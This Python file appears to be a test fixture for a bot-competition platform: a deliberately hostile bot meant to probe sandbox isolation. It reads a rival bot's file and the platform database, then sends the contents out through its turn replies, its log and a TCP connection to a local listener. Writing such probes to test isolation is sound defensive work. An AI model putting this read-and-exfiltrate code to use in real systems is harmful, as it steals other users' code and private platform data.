"""Hostile: reads a rival's bot file and the platform's database (absolute paths in its context, and
the same files relative to its folder) and smuggles what it finds out every way it has: its turn
replies (kept in the replay), its log, and a TCP connection to the listener."""

import os
import socket

from _wire import context, honest, note, serve


def loot():
    found = []
    for path in context()["paths"]:
        for candidate in (path, os.path.relpath(path)):
            try:
                with open(candidate, "rb") as handle:
                    found.append(handle.read(4096).decode("utf-8", "replace"))
                break
            except OSError as exc:
                note(f"cannot read {candidate}: {exc}")
    return "\n".join(found)


def answer(envelope):
    payload = honest(envelope)
    if envelope["type"] == "turn":
        stolen = loot()
        payload["note"] = stolen
        note(f"loot: {stolen}")
        try:
            with socket.create_connection(("127.0.0.1", context()["port"]), timeout=1.0) as conn:
                conn.sendall(stolen.encode())
        except OSError as exc:
            note(f"no connection: {exc}")
    return payload


serve(answer)
